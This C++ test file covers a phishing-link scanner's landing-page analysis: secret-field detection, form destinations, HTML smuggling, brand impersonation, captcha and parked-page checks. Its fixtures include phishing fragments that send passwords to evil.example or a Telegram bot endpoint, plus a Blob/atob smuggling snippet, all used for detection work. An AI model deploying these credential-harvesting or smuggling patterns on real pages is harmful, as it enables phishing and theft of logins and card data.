#include "scanner/trace/landing.h"

#include <string>

#include <gtest/gtest.h>

#include "base/utf8.h"
#include "scanner/links/brands.h"
#include "scanner/links/smuggling.h"
#include "scanner/trace/landing_forms.h"
#include "scanner/trace/landing_marks.h"
#include "scanner/trace/landing_page.h"
#include "tests/fakes/fake_fetcher.h"

namespace linkmilter {
namespace {

class LandingTest : public testing::Test {
 protected:
  Landing Read(const FetchResponse& response,
               const std::string& url = "https://www.shop.example/dir/page") {
    return ReadLanding(response, ParseUrl(url).value(), suffixes);
  }
  Landing Read(const std::string& html) { return Read(Html(html)); }
  // "host collector! post" of the forms that ask; "!" marks elsewhere.
  std::string Forms(const std::string& html) {
    std::string shown;
    for (const FormTarget& form : Read(html).forms) {
      if (!shown.empty()) shown += ' ';
      shown += form.host + '|' + form.collector + (form.elsewhere ? "!" : "") +
               (form.post ? "+post" : "");
    }
    return shown;
  }
  // "password", "card", "code" of one field.
  std::string Asks(const std::string& field) {
    const Landing landing = Read("<form>" + field + "</form>");
    return std::string(landing.password_field ? "password" : "") +
           (landing.card_field ? "card" : "") + (landing.code_field ? "code" : "");
  }

  SuffixList suffixes;
};

TEST_F(LandingTest, TakesOrdinaryFieldsForNoSecrets) {
  for (const char* field : {
           "<input>",
           "<input type=text name=email>",
           "<input name=cardboard>",
           "<input name=discard>",
           "<input name=stan>",
           "<input name=optional>",
           "<input name=couponcode>",
           "<input type=hidden name=cardnumber>",
           "<input type=submit name=otp>",
           "<template><input type=password></template>",
           "<!-- <input type=password> -->",
           "<textarea><input type=password></textarea>",
           "<noscript><input type=password></noscript>",
       }) {
    SCOPED_TRACE(field);
    EXPECT_EQ(Asks(field), "");
    EXPECT_TRUE(Read("<form>" + std::string(field) + "</form>").forms.empty());
  }
}

TEST_F(LandingTest, KnowsSecretsInManySpellings) {
  const std::pair<const char*, const char*> cases[] = {
      {"<input TYPE=' Password'>", "password"},
      {"<input autocomplete='section-a current-password'>", "password"},
      {"<input autocomplete='billing cc-number'>", "card"},
      {"<input autocomplete=CC-CSC>", "card"},
      {"<input name=cardNumber>", "card"},
      {"<input id=card_number>", "card"},
      {"<input name='txt-Card-Number-1'>", "card"},
      {"<input name=ccnum>", "card"},
      {"<input type=tel name=CVV2>", "card"},
      {"<input type=password name=cvc>", "card"},
      {"<input name=cc-cvv>", "card"},
      {"<input placeholder='Security code'>", "card"},
      {"<input aria-label=Kartennummer>", "card"},
      {"<input autocomplete=one-time-code>", "code"},
      {"<input name=otp>", "code"},
      {"<input name=user_otp_1>", "code"},
      {"<input name=smsCode>", "code"},
      {"<input placeholder='Verification code'>", "code"},
      {"<input name=pushTAN>", "code"},
  };
  for (const auto& [field, secret] : cases) {
    SCOPED_TRACE(field);
    EXPECT_EQ(Asks(field), secret);
  }
}

TEST_F(LandingTest, SaysWhoGetsTheSecret) {
  const std::string password = "<input type=password>";
  const std::pair<std::string, const char*> cases[] = {
      {"<form action=//evil.example><input></form>" + password, ""},
      {password + "<form action=//evil.example></form>", ""},
      {"<form>" + password, "www.shop.example|"},
      {"<form method=Post action=/in>" + password, "www.shop.example|+post"},
      {"<form action=https://login.shop.example>" + password + "</form>", "login.shop.example|"},
      {"<form action=javascript:go()>" + password + "</form>", "www.shop.example|"},
      {"<form action=//evil.example>" + password + "</form>", "evil.example|!"},
      {"<form action=http://192.0.2.1/x>" + password + "</form>", "192.0.2.1|!"},
      {"<base href=//evil.example/><form action=x>" + password + "</form>", "evil.example|!"},
      {"<form action=mailto:me@evil.example>" + password + "</form>", "|mail!"},
      {"<form action=https://formspree.io/f/x>" + password + "</form>", "formspree.io|Formspree!"},
      {"<form><button formaction=//evil.example formmethod=post>" + password + "</form>",
       "www.shop.example| evil.example|!+post"},
      {"<form action=/a>" + password + "</form><form action=/b>" + password + "</form>",
       "www.shop.example|"},
      {password + "<script>fetch('https://api.telegram.org/bot1:x/send')</script>",
       "api.telegram.org|Telegram!+post"},
      {password + "<script>'api.telegram.org/x', 'https://api.telegram.org'</script>", ""},
      {password + "<script>'api.telegram.org', 'https://api.telegram.org/bot1'</script>",
       "api.telegram.org|Telegram!+post"},
      {"<input><script>fetch('https://api.telegram.org/bot1:x/send')</script>", ""},
  };
  for (const auto& [html, forms] : cases) {
    SCOPED_TRACE(html);
    EXPECT_EQ(Forms(html), forms);
  }
}

TEST_F(LandingTest, SeesAnAddressThatWasFilledInForTheReader) {
  EXPECT_TRUE(Read("<input type=email value=' me@corp.example '>").prefilled_address);
  EXPECT_TRUE(Read("<input value=me@corp.example readonly>").prefilled_address);
  for (const char* html :
       {"<input type=hidden value=me@corp.example>", "<input placeholder=me@corp.example>",
        "<input value='write to me@corp.example'>", "<input value=@corp.example>",
        "<input value=me@corp>", "<input value=a@b@c.example>"}) {
    SCOPED_TRACE(html);
    EXPECT_FALSE(Read(html).prefilled_address);
  }
}

TEST_F(LandingTest, SeesAPageThatMakesAFileOfItsOwnBytes) {
  const std::string bytes(kSmallestPayload, 'A');
  const std::string payload = "<script>p = '" + bytes + "'</script>";
  const std::string code = "<script>new Blob([atob(p)]); a.download = 'x'</script>";
  const std::string data = "<a href='data:application/zip;base64," + bytes + "'";
  EXPECT_EQ(Read(payload + code).file.kind, kSmuggledKind);
  EXPECT_EQ(Read(data + " download>x</a>").file.kind, kSmuggledKind);
  for (const std::string& html :
       {code, payload, "<p>" + bytes + code, data + ">x</a>", "<template>" + payload + code,
        "<a download href='data:image/png;base64," + bytes + "'>x</a>"}) {
    SCOPED_TRACE(html.substr(0, 60));
    EXPECT_EQ(Read(html).file.kind, "");
  }
}

TEST_F(LandingTest, ReadsWhatAPersonSees) {
  const Landing landing = Read(
      "<html lang=' de-AT '><head><title> Sign \n in &amp; up </title><title>x</title>"
      "<meta property='og:site_name' content='Shop'><meta name=Robots content='NOINDEX, follow'>"
      "<style>p{}</style></head><body><p>Gr\u00fc\u00dfe \n an </p>alle"
      "<div style='display:none'>hidden</div><script>var x</script>"
      "<img class=site-logo alt='Shop of shops'><img alt=other>"
      "<iframe src=//ads.example/x></iframe><iframe src=/own></iframe>");
  EXPECT_EQ(landing.title, "Sign in & up");
  EXPECT_EQ(landing.language, "de-AT");
  EXPECT_EQ(landing.site_name, "Shop");
  EXPECT_TRUE(landing.noindex);
  EXPECT_EQ(landing.text_length, 13U);
  EXPECT_EQ(landing.logos, std::vector<std::string>{"Shop of shops"});
  EXPECT_EQ(landing.frames, std::vector<std::string>{"ads.example"});
  EXPECT_EQ(landing.content_type, "text/html");
  EXPECT_EQ(landing.real_type, "text/html");
  EXPECT_FALSE(landing.empty);
}

TEST_F(LandingTest, DecodesWhatThePageIsWrittenIn) {
  const auto title = [&](const std::string& type, const std::string& html) {
    return Read(Answer(200, {{"Content-Type", type}}, html)).title;
  };
  EXPECT_EQ(title("text/html; charset=windows-1251", "<title>\xcf\xee</title>"), "\u041f\u043e");
  EXPECT_EQ(title("text/html", "<meta charset=iso-8859-1><title>\xe9</title>"), "\u00e9");
  EXPECT_EQ(title("text/html; charset=utf-8", "<title>a\xff</title>"), "a\uFFFD");
}

TEST_F(LandingTest, KnowsWhenThereIsNothingToSee) {
  for (const char* html : {"", " ", "<html><head><title>x</title></head><body></body></html>",
                           "<p style='display:none'>x</p>", "<!-- x -->"}) {
    SCOPED_TRACE(html);
    EXPECT_TRUE(Read(html).empty);
  }
  for (const char* html : {"x", "<img src=x>", "<script src=app.js></script>", "<input>",
                           "<iframe src=x></iframe>", "<svg></svg>"}) {
    SCOPED_TRACE(html);
    EXPECT_FALSE(Read(html).empty);
  }
  EXPECT_TRUE(Read(Answer(204)).empty);
  EXPECT_FALSE(Read(Answer(200, {{"Content-Type", "text/plain"}}, "x")).empty);
}

TEST_F(LandingTest, TellsAChallengeFromACaptchaBesideAForm) {
  const std::string long_text(2000, 'x');
  const std::pair<std::string, const char*> cases[] = {
      {"<input name=q><div class=g-recaptcha></div>", ""},
      {"<p>" + long_text + "<div class=cf-turnstile></div>", ""},
      {"<p>" + long_text + "<script>window._cf_chl_opt={}</script>", ""},
      {"<p>hello", ""},
      {"<div class=cf-turnstile></div>Checking", "turnstile"},
      {"<script src=https://js.hcaptcha.com/1/api.js></script>", "hcaptcha"},
      {"<script src='https://www.google.com/recaptcha/api.js'></script>", "recaptcha"},
      {"<title>Just a moment...</title><script>window._cf_chl_opt={}</script>", "cloudflare"},
      {"<script src=https://ct.captcha-delivery.com/c.js></script>", "datadome"},
      {"<div id=px-captcha></div><input>", "human"},
  };
  for (const auto& [html, challenge] : cases) {
    SCOPED_TRACE(html.substr(0, 80));
    EXPECT_EQ(Read(html).challenge, challenge);
  }
  EXPECT_EQ(Read(Answer(403, {{"CF-Mitigated", "challenge"}}, "x")).challenge, "cloudflare");
}

TEST_F(LandingTest, KnowsParkedAndDefaultPages) {
  const std::pair<std::string, const char*> cases[] = {
      {"<h1>Welcome to our shop</h1>", ""},
      {"<p>it works</p>", ""},
      {"<p style='display:none'>Welcome to nginx!</p>x", ""},
      {"<h1>Welcome to nginx!</h1>" + std::string(6000, 'x'), ""},
      {"<title>Welcome  to\nnginx!</title>", "nginx"},
      {"<h1>It works!</h1>", "Apache"},
      {"<title>Apache2 Debian Default Page: It works</title>", "Apache"},
      {"<p>The domain: BUY THIS DOMAIN</p>", "domain sale"},
      {"<script src='https://img.sedoparking.com/x.js'></script>", "Sedo"},
  };
  for (const auto& [html, parked] : cases) {
    SCOPED_TRACE(html.substr(0, 80));
    EXPECT_EQ(Read(html).parked, parked);
  }
}

TEST(Brands, AreNamedWhereTheyAreNotAtHome) {
  const struct {
    const char* text;
    const char* host;
    const char* brands;
  } cases[] = {
      {"PayPal", "www.paypal.com", ""},
      {"Amazon.de: bestellen", "www.amazon.de", ""},
      {"Amazon", "www.amazon.co.uk", ""},
      {"sandhler payday ebaying", "a.example", ""},
      {"Welcome", "a.example", ""},
      {"PayPal", "paypal.com.evil.example", "paypal "},
      {"PayPal", "notpaypal.com", "paypal "},
      {"Amazon", "amazon.github.io", "amazon "},
      {"Log in to P\u00e1yPal", "a.example", "paypal "},
      {"\uff24\uff28\uff2c tracking", "a.example", "dhl "},
      {"Sign in - Microsoft Outlook", "a.example", "microsoft "},
      {"SOCI\u00c9T\u00c9 G\u00c9N\u00c9RALE", "a.example", "societe generale "},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(std::string(c.text) + " at " + c.host);
    std::string brands;
    for (const std::string& brand : BrandsElsewhere({c.text}, c.host))
      brands += brand + ' ';
    EXPECT_EQ(brands, c.brands);
  }
}

TEST(BenignBounce, IsAFamousFrontPageThatAStrangerSendsRobotsTo) {
  const struct {
    std::vector<std::string> hops;
    const char* famous;
  } cases[] = {
      {{"https://www.google.com/"}, ""},
      {{"https://goo.gl/x", "https://www.google.com/"}, ""},
      {{"http://a.example/", "https://b.example/"}, ""},
      {{"http://a.example/", "https://www.google.com/maps/place"}, ""},
      {{"http://a.example/", "https://google.com.evil.example/"}, ""},
      {{"http://a.example/", "https://www.google.com/"}, "google.com"},
      {{"http://a.example/", "http://b.example/", "https://en.wikipedia.org/?x"}, "wikipedia.org"},
      {{"https://bing.com/ck", "https://www.google.com/"}, "google.com"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.hops.back());
    Chain chain;
    chain.ending = Ending::kLanded;
    for (const std::string& url : c.hops) {
      chain.hops.emplace_back();
      chain.hops.back().url = url;
    }
    EXPECT_EQ(BenignBounce(chain), c.famous);
    chain.ending = Ending::kTimedOut;
    EXPECT_EQ(BenignBounce(chain), "");
  }
}

TEST_F(LandingTest, PutsWhatLooksLikeAButtonFirst) {
  const Landing landing = Read(
      "<a href=/home>Home</a><a href=#top>Top</a><a href=mailto:x@y.example>Mail</a>"
      "<a href=//out.example/1>Partner</a>"
      "<a class=btn style=display:none href=//trap.example/>Trap</a>"
      "<a class='btn btn-primary' href=//out.example/2> View \n <b>document</b></a>"
      "<a role=button href=/next>Next</a><a class=btn href=//out.example/2>Again</a>");
  ASSERT_EQ(landing.calls.size(), 3U);
  EXPECT_EQ(landing.calls[0], (CallToAction{"https://out.example/2", "View document"}));
  EXPECT_EQ(landing.calls[1], (CallToAction{"https://www.shop.example/next", "Next"}));
  EXPECT_EQ(landing.calls[2], (CallToAction{"https://out.example/1", "Partner"}));
}

TEST_F(LandingTest, BoundsEveryFact) {
  const std::string flood(5000, '\xc3');
  std::string html = "<html lang='" + flood + "'><title>" + flood +
                     "</title><meta property=og:site_name content='" + flood + "'>";
  for (int i = 0; i < 3000; ++i) {
    const std::string n = std::to_string(i);
    html += "<form action=//h" + n + ".example><input type=password></form><img alt='logo " + n +
            flood.substr(0, 500) + "'><iframe src=//f" + n +
            ".example></iframe><a class=btn href=//c" + n + ".example>" + flood.substr(0, 500) +
            "</a>";
  }
  const Landing landing = Read(html);
  EXPECT_EQ(landing.forms.size(), kMaxForms);
  EXPECT_EQ(landing.frames.size(), kMaxFrames);
  EXPECT_EQ(landing.logos.size(), kMaxLogos);
  ASSERT_EQ(landing.calls.size(), kMaxCalls);
  for (const std::string& text : {landing.title, landing.language, landing.site_name,
                                  landing.logos[0], landing.calls[0].text}) {
    EXPECT_LE(text.size(), kMaxTitleBytes);
    EXPECT_TRUE(IsValidUtf8(text));
  }
}

}  // namespace
}  // namespace linkmilter
